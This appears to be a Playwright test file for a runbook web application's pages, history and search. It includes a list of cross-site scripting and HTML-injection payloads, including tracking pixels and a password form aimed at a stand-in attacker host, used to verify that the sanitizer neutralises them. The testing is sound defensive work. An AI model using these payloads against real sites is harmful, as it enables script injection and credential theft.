"""The page of a runbook and the list: what it declares, its history, and text that means harm."""

import re
import subprocess
import sys

import pytest
from playwright.sync_api import expect

VIEWS = {
    "light": ({"width": 1280, "height": 800}, "light"),
    "dark": ({"width": 1280, "height": 800}, "dark"),
    "phone": ({"width": 390, "height": 844}, "light"),
}
LEGACY = """
### 2025-03-04T05:06:07.123Z | Exit Code: 3

**Stdout:**
```
from the older engine <b>bold</b>
```

**Stderr:**
```
it complained
```
"""
HARM = [
    "<script>window.harmed = 1</script>",
    "<img src=x onerror='window.harmed = 2'>",
    "<img src='http://evil.invalid/pixel.png'>",
    "![pixel](http://evil.invalid/pixel.png)",
    "[click](javascript:window.harmed=3)",
    "<a href='javascript:window.harmed=4'>link</a>",
    "<svg onload='window.harmed=5'><script>window.harmed=6</script></svg>",
    "<style>body { display: none } @import 'http://evil.invalid/x.css';</style>",
    "<!-- <script>window.harmed = 7</script> --> --!> <img src=x onerror=window.harmed=8>",
    "<iframe srcdoc='<script>parent.harmed = 9</script>'></iframe>",
    "<form action='http://evil.invalid/'><input name=password></form>",
    "<math><mtext><style><img src=x onerror=window.harmed=10></style></mtext></math>",
    "[ref][1]\n\n[1]: data:text/html,<script>window.harmed=11</script>",
    "<p style='background:url(http://evil.invalid/x)'>styled</p>",
    "{{ constructor.constructor('window.harmed=12')() }}",
]


DOCUMENT = (
    """\
A runbook that reads as it does in a repository: H<sub>2</sub>O, <kbd>Ctrl</kbd>, ~~gone~~.
See [the second part](#second-part), [another one](../Plain.md#script) and
[the web](https://example.invalid/), but not [this](javascript:window.harmed=1).

> [!WARNING]
> It **reboots** the machine.

- [x] back up
- [ ] drain

<details><summary>More</summary>

Inside of it.

</details>

![A plan](https://example.invalid/plan.png)

| """
    + " | ".join(f"column{n}" for n in range(12))
    + """ |
|"""
    + "---|" * 12
    + """
| """
    + " | ".join("a`code`b" for _ in range(12))
    + """ |

"""
    + "\n\n".join(f"Paragraph {n}." for n in range(30))
    + """

## Second part
"""
)


# Whether the page shows the text of the runbook with this title.
READ = """title => document.querySelector('h1')?.textContent.trim() === title
    && document.querySelector('.markdown')?.textContent.includes('first')"""
OPEN_ALL_AND_GO_ON = """() => {
    const box = document.querySelector('.markdown')
    box.querySelectorAll('details').forEach(one => one.open = !one.open)
    const links = [...box.querySelectorAll('a')]
    links.find(link => link.textContent === 'next').click()
}"""


@pytest.fixture(params=VIEWS)
def view(request, open_page, picture, check_accessibility, sign_in):
    """Opens a page in each size and scheme: (open, look)."""
    viewport, scheme = VIEWS[request.param]

    def open_(path):
        return sign_in(open_page(path, viewport=viewport, scheme=scheme))

    def look(page, name):
        picture(page, f"{name}-{request.param}")
        check_accessibility(page)

    return open_, look


@pytest.fixture(scope="module")
def old(server):
    """A runbook with a history: of the older engine, one run of this one, and an adopted text."""
    path = server.runbooks / server.add(
        "Old", "print -P '%F{red}in red%f'; print new", inputs="WHO: Someone."
    )
    path.write_text(path.read_text() + LEGACY, encoding="utf-8")
    with server.client() as client:
        body = {"env_vars": {"WHO": "ann"}, "reason": "to see it"}
        client.post("/api/runbooks/Old.md/execute", json=body).raise_for_status()
    with path.open("a", encoding="utf-8") as file:
        file.write("\nForeign.\n")
    adopt = ["verify", "Old.md", "--adopt", "--reason", "another engine"]
    subprocess.run(
        [sys.executable, "-m", "runbook", *adopt],
        env=server.environment,
        cwd=server.folder,
        check=True,
        capture_output=True,
    )
    with server.client() as client:
        (first,) = client.get("/api/runs?runbook=Old.md").json()["runs"]
        body = {"env_vars": {"WHO": "ann"}}
        client.post(f"/api/runs/{first['id']}/retry", json=body).raise_for_status()
    yield "Old.md"
    path.unlink()


def beside(page, title):
    """A panel beside the document, opened."""
    panel = page.locator("details", has=page.get_by_role("heading", name=title, exact=True))
    if panel.get_attribute("open") is None:
        panel.locator("summary").click()
    return panel


def test_what_it_declares(view, picture):
    open_, look = view
    page = open_("/runbook/language/Policy.md")
    expect(page.get_by_role("heading", name="Close the machine")).to_be_visible()
    # The panels say the same: the YAML is folded, and what to do stays in sight.
    document = page.locator(".markdown")
    expect(document.get_by_text("on_failure: undo")).to_be_hidden()
    look(page, "runbook-policy")
    page.mouse.wheel(0, 20_000)
    expect(page.get_by_role("link", name="Execute", exact=True)).to_be_in_viewport(ratio=1)
    picture(page, "runbook-scrolled")
    policy = beside(page, "Policy")
    expect(policy).to_contain_text("5 min for all steps.")
    expect(policy).to_contain_text("machine:${MACHINE}")
    expect(policy).to_contain_text("Up to 2 runs of this runbook at a time; another waits.")
    expect(policy).to_contain_text("tried up to 3 times on exit code 75, 0.1 s apart at first")
    expect(policy).to_contain_text("Exit codes 0, 3.")
    expect(policy).to_contain_text("drain <MACHINE>")
    steps = beside(page, "Steps")
    expect(steps.get_by_role("listitem")).to_have_count(2)
    expect(steps.get_by_text("Undo")).to_have_count(2)
    assert re.search(r"\w (zsh|sh|python), line \d+", steps.inner_text())
    page.goto("/runbook/language/Inputs.md")
    expect(page.get_by_role("heading", name="Environment Requirements")).to_be_visible()
    inputs = beside(page, "Inputs")
    expect(inputs).to_contain_text("matches [a-z][a-z0-9-]*")
    expect(inputs).to_contain_text("full | fast")
    expect(inputs.get_by_role("listitem")).to_have_count(15)
    look(page, "runbook-inputs")


def test_the_history_can_be_read(view, old):
    open_, look = view
    page = open_(f"/runbook/{old}")
    expect(page.get_by_text("print new")).to_be_visible()
    expect(page.get_by_text("from the older engine")).to_have_count(0)
    page.get_by_role("link", name="History", exact=True).click()
    expect(page).to_have_url(re.compile("view=history"))
    table = page.get_by_role("region", name="History", exact=True)
    expect(table).to_contain_text("to see it")
    table.get_by_role("button", name="Output of entry 1").click()
    expect(table.get_by_role("region", name="Stdout of entry 1")).to_contain_text("in red\nnew")
    table.get_by_role("button", name=re.compile("legacy entry from 2025")).click()
    expect(table).to_contain_text("from the older engine <b>bold</b>")
    expect(table).to_contain_text("it complained")
    adoption = table.get_by_role("row").filter(has_text="Adopted")
    expect(adoption).to_contain_text("another engine")
    adoption.get_by_role("button", name="Changes adopted by entry 2").click()
    expect(table).to_contain_text("Foreign text after entry 1")
    expect(table.get_by_role("link", name="another run")).to_be_visible()
    look(page, "runbook-history")
    table.get_by_role("link").first.click()
    expect(page).to_have_url(re.compile("/run/"))


def test_a_long_history_comes_in_pages(server, open_page, sign_in):
    server.add("Often", "print hello")
    with server.client() as client:
        for _ in range(23):
            client.post("/api/runbooks/Often.md/execute", json={}).raise_for_status()
    page = sign_in(open_page("/runbook/Often.md?view=history"))
    expect(page.get_by_role("button", name=re.compile("Output of entry"))).to_have_count(20)
    page.get_by_role("button", name="Load older entries").click()
    expect(page.get_by_role("button", name=re.compile("Output of entry"))).to_have_count(23)
    expect(page.get_by_role("button", name="Load older entries")).to_have_count(0)


def test_what_is_missing_is_said(view):
    open_, look = view
    page = open_("/runbook/RestrictedRunbook.md")
    expect(page.get_by_role("button", name="Execute")).to_be_disabled()
    expect(
        page.get_by_text("Requires team=platform; environment=staging or production")
    ).to_be_visible()
    claims = beside(page, "Access")
    expect(claims).to_contain_text("roles one of sre, admin – met")
    expect(claims).to_contain_text("team is platform – not met")
    expect(page.get_by_role("heading", name="Required Claims")).to_be_visible()
    look(page, "runbook-restricted")
    page.get_by_role("link", name="History", exact=True).click()
    expect(page.get_by_text("Viewing the history requires permission to execute")).to_be_visible()


def test_problems_have_lines(server, open_page, sign_in, picture, check_accessibility):
    server.add("Broken", "print hi", inputs="PORT:\n  type: integre")
    page = sign_in(open_page("/runbook/Broken.md"))
    expect(page.get_by_text("Invalid: this runbook can't be executed", exact=True)).to_be_visible()
    expect(page.get_by_text(re.compile(r"Line \d+: .*unknown type 'integre'"))).to_be_visible()
    expect(page.get_by_role("button", name="Execute")).to_be_disabled()
    check_accessibility(page)
    picture(page, "runbook-broken")


def test_keys_of_the_page(open_page, sign_in, old):
    page = sign_in(open_page(f"/runbook/{old}"))
    expect(page.get_by_text("print new")).to_be_visible()
    page.keyboard.press("h")
    expect(page.get_by_role("region", name="History", exact=True)).to_be_visible()
    page.keyboard.press("d")
    expect(page.get_by_text("print new")).to_be_visible()
    page.keyboard.press("e")
    expect(page.get_by_label("WHO")).to_be_visible()


def test_the_list_searches_texts_and_tells_what_one_may(view, server):
    open_, look = view
    page = open_("/runbooks")
    expect(page.get_by_role("link", name="RestrictedRunbook", exact=True)).to_be_visible()
    row = page.get_by_role("listitem").filter(
        has=page.get_by_role("link", name="RestrictedRunbook")
    )
    expect(row).to_contain_text("Requires team=platform; environment=staging or production")
    # Who may not execute it does not see whether it has run.
    expect(row).not_to_contain_text("Never run")
    look(page, "runbooks")
    page.get_by_role("searchbox", name="Search").fill("gzip -c build")
    expect(page.get_by_role("link", name="Steps", exact=True)).to_be_visible()
    expect(page.get_by_role("link", name="RestrictedRunbook", exact=True)).to_have_count(0)
    found = page.get_by_role("listitem").filter(has=page.get_by_role("link", name="Steps"))
    expect(found).to_contain_text(re.compile(r"Line \d+ *gzip -c build"))
    expect(found.locator("mark")).to_have_text("gzip -c build")
    look(page, "runbooks-found")
    page.get_by_role("searchbox", name="Search").fill("LANGUAGE/steps")
    expect(found.locator("mark")).to_have_text("language/Steps")
    expect(found).not_to_contain_text("Line")
    page.get_by_role("searchbox", name="Search").fill("")
    page.get_by_label("Only runbooks I can execute").check()
    expect(page).to_have_url(re.compile("access=mine"))
    expect(page.get_by_role("link", name="Steps", exact=True)).to_be_visible()
    expect(page.get_by_role("link", name="RestrictedRunbook", exact=True)).to_have_count(0)


@pytest.fixture(scope="module")
def harmful(server):
    """Runbooks with all of it in their texts, names, inputs, steps and history."""
    harm = "\n\n".join(HARM)
    quoted = [text.replace("'", "''").replace("\n", " ") for text in HARM]
    inputs = "\n".join(
        f"IN{n}:\n  description: '{text}'\n  type: string\n  optional: true\n"
        f"  group: '{text}'\n  example: '{text}'"
        for n, text in enumerate(quoted)
    )
    path = server.runbooks / server.add("harm/Harm", "cat <<'X'\n" + harm + "\nX", inputs=inputs)
    text = path.read_text()
    text = text.replace("# Harm\n", f"# Harm {HARM[1]}\n\n{harm}\n\n## {HARM[6]}\n\n", 1)
    path.write_text(text + LEGACY.replace("it complained", harm), encoding="utf-8")
    with server.client() as client:
        body = {"env_vars": {"IN0": HARM[1]}, "reason": HARM[1]}
        client.post("/api/runbooks/harm/Harm.md/execute", json=body).raise_for_status()
    yield "harm/Harm.md"
    path.unlink()


def test_text_that_means_harm_does_none(harmful, open_page, sign_in, picture):
    """The guard fails on foreign requests, and on what the policy had to stop."""
    page = sign_in(open_page("/runbooks?q=harm"))
    expect(page.get_by_role("link", name=re.compile("^Harm"))).to_be_visible()
    page.get_by_role("link", name=re.compile("^Harm")).click()
    expect(page.locator(".markdown")).to_contain_text("window.harmed = 1")
    assert (
        not page.locator(".markdown")
        .locator("script, img, svg, style, iframe, form, input, math, [onerror], [style]")
        .count()
    )
    addresses = page.eval_on_selector_all("main a", "links => links.map(link => link.href)")
    foreign = {one for one in addresses if one and not one.startswith("http://127.0.0.1")}
    assert foreign == {"http://evil.invalid/pixel.png"}
    beside(page, "Inputs")
    picture(page, "runbook-harm")
    page.get_by_role("link", name="History", exact=True).click()
    page.get_by_role("button", name=re.compile("Output of entry")).first.click()
    page.get_by_role("button", name=re.compile("legacy entry")).click()
    expect(page.get_by_role("region", name=re.compile("^Stdout")).first).to_contain_text(
        "window.harmed = 1"
    )
    page.goto(f"/execute/{harmful}?page=all&env.IN0=<script>window.harmed=13</script>")
    expect(page.get_by_label("IN0")).to_have_value("<script>window.harmed=13</script>")
    page.get_by_role("button", name="Reuse last values").click()
    page.get_by_role("button", name="Execute", exact=True).click()
    expect(page).to_have_url(re.compile("/run/"))
    page.go_back()
    assert page.evaluate("window.harmed") is None


def test_no_html_of_a_document_acts(server, open_page, sign_in, hostile_html):
    """Each attack in a document of its own: some would hide those that follow them."""
    for number, attack in enumerate([*hostile_html, ""]):
        path = server.runbooks / server.add(f"hostile/H{number}", "true")
        start = f"first\n\n[next](H{number + 1}.md)\n\n{attack}"
        text = path.read_text().replace("A runbook of the tests.", start, 1)
        path.write_text(text, encoding="utf-8")

    page = sign_in(open_page("/runbook/hostile/H0.md"))
    for number, attack in enumerate(hostile_html):
        page.wait_for_function(READ, arg=f"H{number}")
        page.evaluate(OPEN_ALL_AND_GO_ON)
        assert not page.evaluate("window.harmed"), attack
    expect(page.get_by_role("heading", name=f"H{len(hostile_html)}", level=1)).to_be_visible()
    assert not page.evaluate("window.harmed")


def test_a_document_reads_as_it_does_in_a_repository(server, view):
    open_, look = view
    server.add("Plain", "print plain\n" + "# more\n" * 60)
    path = server.runbooks / server.add("reads/Rich", "true")
    path.write_text(path.read_text().replace("A runbook of the tests.\n", DOCUMENT, 1))
    page = open_("/runbook/reads/Rich.md")
    text = page.locator(".markdown")
    expect(text.locator("kbd")).to_have_text("Ctrl")
    expect(text.locator(".alert.warning")).to_contain_text("It reboots the machine.")
    expect(text.get_by_role("img", name="Done")).to_have_count(1)
    expect(text.get_by_text("Inside of it.")).to_be_hidden()
    text.get_by_text("More", exact=True).click()
    expect(text.get_by_text("Inside of it.")).to_be_visible()
    picture = text.get_by_role("link", name="A plan")
    expect(picture).to_have_attribute("href", "https://example.invalid/plan.png")
    expect(text.get_by_role("link", name="the web")).to_have_attribute("target", "_blank")
    expect(text.get_by_role("link", name="this")).to_have_count(0)
    expect(text).to_contain_text("but not this.")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    look(page, "runbook-rich")

    text.get_by_role("link", name="the second part").click()
    expect(page).to_have_url(re.compile(r"Rich\.md#second-part$"))
    expect(text.get_by_role("heading", name="Second part")).to_be_in_viewport()
    expect(text.get_by_role("heading", name="Second part")).to_be_focused()
    page.go_back()
    text.get_by_role("link", name="another one").press("Enter")
    expect(page).to_have_url(re.compile(r"/runbook/Plain\.md#script$"))
    expect(text.get_by_role("heading", name="Script", exact=True)).to_be_in_viewport()
    assert page.evaluate("scrollY") > 0
    page.go_back()
    expect(page.get_by_role("heading", name="Rich", level=1)).to_be_visible()


def test_the_list_says_how_fresh_each_is(server, view):
    open_, look = view
    server.add("fresh/Never", "true")
    server.add("fresh/Fails", "exit 3")
    server.add("fresh/Breaks", "exit ${CODE}", inputs="CODE: The code to end with.")
    server.add("fresh/Works", "true")
    with server.client() as client:
        for name, code in (("Fails", ""), ("Breaks", "0"), ("Breaks", "3"), ("Works", "")):
            body = {"env_vars": {"CODE": code} if code else {}}
            client.post(f"/api/runbooks/fresh/{name}.md/execute", json=body).raise_for_status()
    page = open_("/runbooks?q=fresh/")
    for name, text in (
        ("Never", "Never run"),
        ("Fails", "Never succeeded"),
        ("Breaks", "Failed.*Last success *just now"),
        ("Works", "Succeeded"),
    ):
        row = page.get_by_role("listitem").filter(has=page.get_by_role("link", name=name))
        expect(row).to_contain_text(re.compile(text))
    look(page, "runbooks-fresh")
